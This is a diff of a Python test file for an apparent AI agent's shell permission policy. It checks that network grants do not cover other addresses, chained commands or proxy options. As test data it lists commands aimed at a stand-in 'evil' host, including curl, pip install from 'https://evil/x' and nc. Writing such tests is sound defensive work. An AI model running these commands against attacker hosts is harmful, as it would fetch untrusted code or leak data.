@@ -468,7 +468,7 @@ def network_call(policy: Policy, *, command: str = "pip install x") -> Any:
     return policy.decide(call, "execute", Preview(title="Run"), subject)
 
 
-@every_row("command", ["curl -s http://docs/a.html", "wget docs/a", "pip install http://x/y.tgz", "git push ssh://docs/x main", "git fetch me@docs:x", "nc docs 80"])  # fmt: skip
+@every_row("command", ["curl -s http://docs/a.html", "wget docs/a", "pip install http://x/y.tgz", "git push ssh://docs/x main", "git fetch me@docs:x", "nc docs 80", "psql -h docs -p 6101 -c 'select 1'", "http POST docs", "go get docs.example/x", "make lint"])  # fmt: skip
 def test_always_with_the_network_stands_for_no_other_address(command: str) -> None:
     policy = Policy(SafetySettings(mode="ask"))
     asked = network_call(policy, command=command)
@@ -476,11 +476,26 @@ def test_always_with_the_network_stands_for_no_other_address(command: str) -> No
     assert asked.question.grant == f"run_shell({command}) with network"
     policy.grant(asked.question.grant)
     assert network_call(policy, command=command) == Allow("grant")
-    for other in (command.replace("docs", "evil").replace("http://x", "http://z"), f"{command} -x"):
-        assert isinstance(network_call(policy, command=other), Ask)
-    words = " ".join(command.split()[:2])
-    policy.grant(f"run_shell({words} *) with network")  # a star, as of `pip install y`
-    assert isinstance(network_call(policy, command=f"{words} https://evil/x"), Ask)
+    others = (command.replace("docs", "evil").replace("http://x", "http://z"), f"{command} -x")
+    for other in (*others, f"cd sub && {command}"):
+        assert other == command or isinstance(network_call(policy, command=other), Ask)
+
+
+@every_row("command", ["curl -s https://evil/x", "pip install https://evil/x", "git fetch evil:x", "go get evil.example/x", "pip install --proxy evil x"])  # fmt: skip
+def test_a_star_with_the_network_covers_no_word_that_is_an_address(command: str) -> None:
+    policy = Policy(SafetySettings(mode="ask"))
+    policy.grant(f"run_shell({' '.join(command.split()[:2])} *) with network")
+    assert isinstance(network_call(policy, command=command), Ask)
+
+
+@every_row(("stored", "command"), [("psql *", "psql -h other -f x"), ("pytest *", "pytest -q tests"), ("python3 -m pip *", "python3 -m pip install y"), ("pip install *", "pip install y")])  # fmt: skip
+def test_a_star_that_an_earlier_version_stored_with_the_network_still_counts(
+    stored: str, command: str
+) -> None:
+    policy = Policy(SafetySettings(mode="ask"))
+    assert isinstance(network_call(policy, command=command), Ask)
+    policy.grant(f"run_shell({stored}) with network")
+    assert network_call(policy, command=command) == Allow("grant")
 
 
 @every_row("mode", ["ask", "accept-edits", "auto"])
@@ -518,14 +533,14 @@ def test_no_reason_to_ask_takes_the_place_of_another(network: bool, outside: boo
     assert told.question.reason == "its server runs without a sandbox"
 
 
-def test_a_grant_with_the_network_covers_that_kind_of_command_and_no_other():
+def test_a_grant_with_the_network_covers_that_command_and_no_other():
     policy = policy_of("ask", find_sandbox=lambda: "full")
     first = network_call(policy, command="pytest -q")
     assert isinstance(first, Ask)
-    assert first.question.grant == "run_shell(pytest *) with network"
+    assert first.question.grant == "run_shell(pytest -q) with network"
     policy.grant(first.question.grant)
     assert network_call(policy, command="pytest -q") == Allow("grant")
-    assert isinstance(network_call(policy, command="npm test"), Ask)
+    assert isinstance(network_call(policy, command="pytest -x"), Ask)
     assert decide(policy, "run_shell", command="pytest -q") == Allow("reading")
 
 
